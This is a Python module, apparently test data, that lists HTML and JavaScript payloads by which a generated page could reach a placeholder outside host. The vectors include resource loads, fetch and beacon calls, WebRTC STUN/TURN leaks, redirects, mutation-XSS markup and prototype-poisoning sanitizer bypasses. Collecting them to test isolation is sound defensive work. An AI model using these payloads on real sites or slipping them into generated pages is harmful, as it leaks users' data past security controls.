"""What a generated page may try, so that somebody elsewhere hears of it. ``{url}`` is theirs, ``{port}`` too, ``{name}`` a name of theirs.

``LEADS_ELSEWHERE`` is what sends the frame to another address: that a person is told of when they let scripts run.
"""

RTC = """function rtc(w) {{ const p = new w.RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{port}" }}, {{ urls:
"turn:127.0.0.1:{port}", username: "secret", credential: "x" }}] }}); p.createDataChannel("x");
p.createOffer().then((o) => p.setLocalDescription(o)) }};"""
IN_A_FRAME = "<script>" + RTC + "rtc(window)</script>"
MARKUP = [
    '<link rel=stylesheet href="{url}/css">',
    '<link rel=prefetch href="{url}/prefetch"><link rel=preload as=image href="{url}/preload">',
    '<link rel=modulepreload href="{url}/module"><link rel=icon href="{url}/icon"><link rel=manifest href="{url}/manifest">',
    '<link rel=preconnect href="{url}">',
    '<link rel=preconnect href="http://{name}">',
    '<link rel=dns-prefetch href="//{name}">',
    '<LiNk\nrel="dns-prefetch preconnect"\thref="//{name}"/>',
    '<style>@import "{url}/import"; @import url({url}/import2);</style>',
    "<style>@font-face {{ font-family: f; src: url({url}/font) }} p {{ font-family: f }}</style><p>text",
    "<style>p {{ background: u\\72l({url}/bg); cursor: url({url}/cursor), auto; list-style: url({url}/list) }}</style><p>text",
    "<p style=\"background: image-set('{url}/set' 1x); border-image: url({url}/border)\">text</p>",
    "<style>p::after {{ content: url({url}/content); mask: url({url}/mask); shape-outside: url({url}/shape) }}</style><p>text",
    '<img src="{url}/img"><img srcset="{url}/srcset 1x"><picture><source srcset="{url}/source"><img src=x:></picture>',
    '<input type=image src="{url}/input"><body background="{url}/body"><table background="{url}/table"><td>x</table>',
    '<video poster="{url}/poster" src="{url}/video" autoplay></video><audio src="{url}/audio" autoplay></audio>',
    '<video><track src="{url}/track" default></video><bgsound src="{url}/bgsound">',
    '<iframe src="{url}/iframe"></iframe>',
    '<object data="{url}/object"></object><embed src="{url}/embed">',
    '<frameset><frame src="{url}/frame"></frameset>',
    '<fencedframe src="{url}/fenced"></fencedframe><portal src="{url}/portal"></portal>',
    '<iframe srcdoc="<img src={url}/srcdoc>"></iframe>',
    "<iframe srcdoc='" + IN_A_FRAME + "'></iframe>",
    "<iframe srcdoc='<link rel=preconnect href={url}>'></iframe>",
    "<div><template shadowrootmode=open><iframe srcdoc='" + IN_A_FRAME + "'></iframe></template></div>",
    "<div><template shadowrootmode=open><link rel=preconnect href={url}><img src={url}/shadow></template></div>",
    '<svg><image href="{url}/image"/><image xlink:href="{url}/image2"/><use href="{url}/use#a"/></svg>',
    '<svg><filter id=f><feImage href="{url}/feimage"/></filter><rect filter="url(#f)" width=9 height=9 fill="url({url}/fill#a)"/></svg>',
    '<svg><foreignObject width=9 height=9><iframe src="{url}/foreign"></iframe></foreignObject></svg>',
    "<svg><foreignObject width=9 height=9><iframe srcdoc='" + IN_A_FRAME + "'></iframe></foreignObject></svg>",
    "<svg><style>@import '{url}/svgimport';</style><script href='{url}/svgscript'></script></svg>",
    '<math><mi xlink:href="{url}/math" href="{url}/math2">x</mi></math>',
    '<base href="{url}/"><img src=based>',
    '<script type=speculationrules>{{"prefetch": [{{"urls": ["{url}/rules"]}}], "prerender": [{{"urls": ["{url}/render"]}}]}}</script>',
    '<meta http-equiv=Link content="<{url}>; rel=preconnect"><meta http-equiv=x-dns-prefetch-control content=on><a href="//{name}">x</a>',
    '<meta http-equiv=Content-Security-Policy content="default-src *; report-uri {url}/report">',
    "<noscript><p title=\"</noscript><iframe srcdoc='<link rel=preconnect href={url}>'></iframe>\"></noscript>",
    '<svg></p><style><a id="</style><link rel=preconnect href={url}><img src={url}/mutated>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;link rel=preconnect href={url}&gt;'>",
    '<textarea><p title="</textarea><link rel=preconnect href={url}>">',
    '<select><template><link rel=preconnect href="{url}"></select><img src="{url}/select">',
    '<!--><link rel=preconnect href="{url}"><!-- --!><img src="{url}/comment">',
    '<xmp><p title="</xmp><link rel=preconnect href={url}>"><plaintext>',
    '<form action="{url}/form" method=post><input autofocus onfocus="this.form.submit()"></form>',
]
SCRIPTS = [
    "fetch('{url}/fetch'); navigator.sendBeacon('{url}/beacon'); fetch('http://{name}/')",
    "new WebSocket('ws://127.0.0.1:{port}'); new EventSource('{url}/events')",
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"{url}/worker\")'])))",
    "import('{url}/import'); new Image().src = '{url}/image'; new Audio('{url}/audio')",
    "const s = document.createElement('script'); s.src = '{url}/script'; document.body.append(s)",
    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{url}'; document.head.append(l)",
    "document.head.innerHTML += '<link rel=preconnect href={url}><link rel=dns-prefetch href=//{name}>'",
    "document.body.style.background = 'url({url}/style)'; new FontFace('f', 'url({url}/face)').load()",
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({{prefetch: [{{urls: ['{url}/r']}}]}}); document.head.append(s)",
    RTC + "rtc(window)",
    "new webkitRTCPeerConnection({{ iceServers: [{{ urls: 'stun:127.0.0.1:{port}' }}] }}).createOffer()",
    RTC + "document.body.innerHTML = '<iframe></iframe>'; rtc(frames[0])",
    RTC + "const f = document.createElement('iframe'); document.body.append(f); rtc(f.contentWindow)",
    RTC
    + "const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); document.body.append(f); rtc(frames[0])",
    RTC
    + "const f = document.createElement({{ toString: () => (window.n = (window.n ?? 0) + 1) > 1 ? 'iframe' : 'p' }}); document.body.append(f); rtc(frames[0])",
    RTC
    + "customElements.define('x-f', class extends HTMLIFrameElement {{}}, {{ extends: 'iframe' }}); document.body.append(document.createElement('iframe', {{ is: 'x-f' }})); rtc(frames[0])",
    RTC
    + "class F extends HTMLIFrameElement {{}}; customElements.define('x-g', F, {{ extends: 'iframe' }}); document.body.append(new F()); rtc(frames[0])",
    RTC + "document.write('<ifr'); document.write('ame></iframe>'); rtc(frames[0])",
    RTC + "document.write('<', 'iframe>'); document.writeln('</iframe>'); rtc(frames[0])",
    RTC + "document.open(); document.write('<iframe>'); document.close(); rtc(frames[0])",
    RTC
    + "document.body.append(new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e \"&#60;f xmlns=\\'http://www.w3.org/1999/xhtml\\'/>\">]><x>&e;</x>'.replace('60;f', '60;iframe'), 'text/xml').documentElement); rtc(frames[0])",
    RTC
    + "document.body.append(document.importNode(new DOMParser().parseFromString('<x:iframe xmlns:x=\"http://www.w3.org/1999/xhtml\"/>', 'application/xhtml+xml').documentElement, true)); rtc(frames[0])",
    RTC
    + "const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'p'); d.documentElement.innerHTML = '<x:iframe xmlns:x=\"http://www.w3.org/1999/xhtml\"/>'; document.body.append(d.documentElement); rtc(frames[0])",
    RTC + "document.body.append(document.createRange().createContextualFragment('<iframe>')); rtc(frames[0])",
    RTC + "document.body.insertAdjacentHTML('beforeend', '<object data=about:blank>'); rtc(frames[0])",
    RTC
    + "document.body.setHTMLUnsafe('<div><template shadowrootmode=open><iframe></iframe></template></div>'); rtc(frames[0])",
    RTC
    + "const r = document.createElement('div').attachShadow({{ mode: 'open' }}); r.innerHTML = '<iframe>'; document.body.append(r.host); rtc(frames[0])",
    RTC
    + "const t = document.createElement('template'); t.innerHTML = '<iframe>'; document.body.append(t.content.cloneNode(true)); rtc(frames[0])",
    RTC
    + "document.designMode = 'on'; document.body.focus(); document.execCommand('selectAll'); document.execCommand('insertHTML', false, '<iframe>'); rtc(frames[0])",
    RTC
    + "Element.prototype.remove = () => 0; Element.prototype.matches = () => false; document.body.innerHTML = '<iframe>'; rtc(frames[0])",
    RTC
    + "Object.defineProperty(Element, Symbol.hasInstance, {{ value: () => false }}); document.body.innerHTML = '<iframe>'; rtc(frames[0])",
    RTC
    + "RegExp.prototype.exec = () => null; String.prototype.replace = function () {{ return this }}; document.body.innerHTML = '<iframe>'; rtc(frames[0])",
    RTC
    + "RegExp.prototype[Symbol.replace] = (s) => s; RegExp.prototype.test = () => false; Reflect.apply = () => 'iframe'; document.body.append(document.createElement('iframe')); rtc(frames[0])",
    RTC
    + "try {{ trustedTypes.createPolicy('default', {{ createHTML: (t) => t }}) }} catch {{}} document.body.innerHTML = '<iframe>'; rtc(frames[0])",
    RTC + "document.body.innerHTML = '<iframe srcdoc=\"<script>parent.rtc(window)</scr' + 'ipt>\">'",
    RTC
    + "document.body.innerHTML = '<svg><foreignObject><ifr\\u0000ame></foreignObject></svg><IFRAME/>'; rtc(frames[0])",
    RTC
    + 'const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(\'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:element name="iframe"/></x:template></x:stylesheet>\', \'text/xml\')); document.body.append(x.transformToFragment(document, document)); rtc(frames[0])',
]
LEADS_ELSEWHERE = [
    '<meta http-equiv=refresh content="0; url={url}/refresh">',
    '<p>text</p><META\nHTTP-EQUIV="refresh" content="0;{url}/refresh2">',
    '<svg><a href="{url}/svglink"><text y=20>x</text></a><script>document.querySelector("a").dispatchEvent(new MouseEvent("click"))</script></svg>',
    '<a id=a href="{url}/link" ping="{url}/ping">a</a><script>a.click()</script>',
    '<a id=a target=_top href="{url}/top">a</a><a id=b target=_blank href="{url}/blank">b</a><script>a.click(); b.click()</script>',
    "<script>location = '{url}/location'</script>",
    "<script>location = 'http://{name}/'</script>",
    "<script>top.location = '{url}/top'; open('{url}/open'); location.replace('{url}/replace')</script>",
    "<script>location = URL.createObjectURL(new Blob(['<img src={url}/blob>'], {{ type: 'text/html' }}))</script>",
    "<script>location = 'data:text/html,<img src={url}/data>'</script>",
    "<script>"
    + RTC
    + "location = 'javascript:\"<iframe srcdoc=1></iframe><script>(' + rtc + ')(window)</scr' + 'ipt>\"'</script>",
    '<form id=f action="{url}/form"></form><script>f.submit()</script>',
    "<img src=x: onerror=\"location='{url}/onerror'\"><svg onload=\"location='{url}/onload'\">",
    "<script>const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url={url}/made'; document.head.append(m)</script>",
]
STAYS = [*MARKUP, *(f"<body><script>{script}</script>" for script in SCRIPTS)]
WAYS_OUT = [*STAYS, *LEADS_ELSEWHERE]
